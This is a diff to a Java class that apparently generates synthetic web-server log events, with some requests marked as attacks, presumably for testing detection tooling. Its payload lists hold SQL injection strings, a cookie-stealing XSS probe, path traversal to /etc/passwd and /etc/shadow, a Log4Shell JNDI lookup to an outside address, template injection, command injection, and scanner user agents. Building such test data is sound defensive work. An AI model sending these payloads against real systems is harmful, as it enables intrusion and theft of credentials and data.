@@ -20,10 +20,12 @@ final class PortalLog implements LineWriter {
     private static final List<String> SYSTEMS = List.of("Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7",
             "X11; Linux x86_64", "iPhone; CPU iPhone OS 18_5 like Mac OS X", "Linux; Android 15; Pixel 9",
             "iPad; CPU OS 18_4 like Mac OS X", "Linux; Android 14; SM-S921B");
+    private static final List<Carrier> CARRIERS = List.of(Carrier.QUERY, Carrier.QUERY, Carrier.PATH, Carrier.AGENT);
     private static final List<String> METHODS = List.of("GET", "GET", "GET", "GET", "GET", "GET", "POST", "POST", "HEAD",
             "PUT");
     private static final List<Integer> ANSWERS = List.of(200, 200, 200, 200, 200, 200, 304, 302, 204, 404, 400, 403, 500);
-    private static final List<String> ATTACK_QUERIES = List.of("id=1'%20UNION%20SELECT%20login,secret%20FROM%20person--",
+    private static final List<String> ATTACK_QUERIES = List.of("id=1'%20UNION%20SELECT%20login,secret%20FROM%20person--", "case=1%20UNION%20ALL%20SELECT%20NULL,@@version--",
+            "sort=id%20order%20by%209--", "filter=x'%20or%201=1#", "q=1%20and%20group_concat(table_name)",
             "case=7%27%20OR%201=1--%20", "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
             "document=../../../../etc/passwd", "file=..%2f..%2f..%2fetc%2fshadow",
             "q=${jndi:ldap://198.51.100.23:1389/a}", "name={{7*7}}", "step=1;cat%20/etc/hosts",
@@ -36,15 +38,24 @@ final class PortalLog implements LineWriter {
             "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", "Nmap Scripting Engine", "gobuster/3.6", "nuclei - open-source",
             "python-requests/2.32.3", "masscan/1.3", "WPScan v3.8.28", "Wfuzz/3.1.0", "DirBuster-1.0-RC1");
 
+    /** Which part of a request carries an attack. */
+    private enum Carrier {
+        NONE,
+        QUERY,
+        PATH,
+        AGENT
+    }
+
     @Override
     public void write(int number, boolean attack, Choice choice, Map<String, Object> event) {
-        String stem = path(attack, choice);
-        String query = query(attack, choice);
+        Carrier carrier = attack ? choice.of(CARRIERS) : Carrier.NONE;
+        String stem = path(carrier, choice);
+        String query = query(carrier, choice);
         String target = query.isEmpty() ? stem : stem + "?" + query;
-        String agent = attack && choice.chance(40) ? choice.of(SCANNERS) : browser(choice);
+        String agent = carrier == Carrier.AGENT ? choice.of(SCANNERS) : browser(choice);
         event.put("@timestamp", Moments.of(number).toString());
         event.put("c-ip", address(choice));
-        event.put("cs-method", choice.of(METHODS));
+        event.put("cs-method", attack && choice.chance(90) ? "GET" : choice.of(METHODS));
         event.put("cs-uri-stem", stem);
         event.put("cs-uri-query", target);
         event.put("c-uri", "https://" + HOST + target);
@@ -56,22 +67,20 @@ final class PortalLog implements LineWriter {
         event.put("sc-bytes", choice.between(180, 90_000));
         event.put("cs-bytes", choice.between(300, 2_400));
         event.put("time-taken", choice.between(1, 400));
-        event.put("cs-version", choice.chance(85) ? "HTTP/2.0" : "HTTP/1.1");
-        event.put("tls-version", "TLSv1.3");
-        event.put("session", choice.hex(8));
+        event.put("session", choice.hex(4));
         event.put("trace.id", choice.hex(16));
     }
 
-    private static String path(boolean attack, Choice choice) {
-        if (attack && choice.chance(30)) {
+    private static String path(Carrier carrier, Choice choice) {
+        if (carrier == Carrier.PATH) {
             return choice.of(ATTACK_PATHS);
         }
         String path = choice.oftenFirst(PATHS);
         return choice.chance(35) && !path.endsWith("/") && path.indexOf('.') < 0 ? path + "/" + choice.hex(4) : path;
     }
 
-    private static String query(boolean attack, Choice choice) {
-        if (attack && choice.chance(75)) {
+    private static String query(Carrier carrier, Choice choice) {
+        if (carrier == Carrier.QUERY) {
             return choice.of(ATTACK_QUERIES);
         }
         StringBuilder query = new StringBuilder();
